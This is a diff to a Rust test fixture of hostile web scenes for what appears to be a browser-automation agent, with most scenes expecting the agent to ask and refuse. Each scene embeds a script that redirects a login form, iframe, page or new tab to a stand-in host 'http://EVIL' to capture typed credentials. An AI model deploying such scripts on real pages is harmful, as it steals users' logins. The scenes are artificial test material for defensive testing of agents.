@@ -129,10 +129,10 @@ pub(super) const HOSTILE: &[Scene] = &[
         own: &[(
             "/",
             "<form id=f action=/login method=post><input name=l aria-label=Login><button>Send</button></form>
-             <script>setTimeout(() => f.action = 'http://EVIL/got?form', 1500)</script>",
+             <script>asked(() => f.action = 'http://EVIL/got?form')</script>",
         )],
         calls: &[ASK, SEND],
-        thinks_ms: 2500,
+        thinks_ms: 800,
         is_asked: true,
         is_refused: true,
         ..NONE
@@ -143,10 +143,10 @@ pub(super) const HOSTILE: &[Scene] = &[
             "/",
             "<form action=/login method=post><input id=l name=l aria-label=Login><button>Send</button></form>
              <form id=g action='http://EVIL/got?form' method=post></form>
-             <script>setTimeout(() => l.setAttribute('form', 'g'), 1500)</script>",
+             <script>asked(() => l.setAttribute('form', 'g'))</script>",
         )],
         calls: &[ASK, SEND, ("press", r#"{"key":"Enter","ref":"@Login"}"#)],
-        thinks_ms: 2500,
+        thinks_ms: 800,
         is_asked: true,
         is_refused: true,
         ..NONE
@@ -154,22 +154,22 @@ pub(super) const HOSTILE: &[Scene] = &[
     Scene {
         name: "a frame that becomes theirs while the person types",
         own: &[
-            ("/", "<iframe id=f src=/form width=400 height=200></iframe><script>setTimeout(() => f.src = 'http://EVIL/form', 1500)</script>"),
+            ("/", "<iframe id=f src=/form width=400 height=200></iframe><script>asked(() => f.src = 'http://EVIL/form')</script>"),
             ("/form", LOGIN),
         ],
         theirs: &[("/form", LOGIN)],
         calls: &[ASK, SEND],
-        thinks_ms: 2500,
+        thinks_ms: 800,
         is_asked: true,
         is_refused: true,
         ..NONE
     },
     Scene {
         name: "a page that goes to them while the person types",
-        own: &[("/", "<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form><script>setTimeout(() => location = 'http://EVIL/form', 1500)</script>")],
+        own: &[("/", "<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form><script>asked(() => location = 'http://EVIL/form')</script>")],
         theirs: &[("/form", LOGIN)],
         calls: &[ASK, SEND],
-        thinks_ms: 2500,
+        thinks_ms: 800,
         is_asked: true,
         is_refused: true,
         ..NONE
@@ -178,12 +178,12 @@ pub(super) const HOSTILE: &[Scene] = &[
         name: "a tab of theirs that comes up while the person types",
         own: &[(
             "/",
-            "<button onclick=\"setTimeout(() => open('http://EVIL/form'), 1500)\">Go</button>
+            "<button onclick=\"asked(() => open('http://EVIL/form'))\">Go</button>
              <form action=/login method=post><input name=l aria-label=Login><button>Send</button></form>",
         )],
         theirs: &[("/form", LOGIN)],
         calls: &[("click", r#"{"ref":"@Go"}"#), ASK, ("fill", r#"{"ref":"@Login","value":"SHOWN"}"#)],
-        thinks_ms: 2500,
+        thinks_ms: 800,
         ..NONE
     },
     Scene {
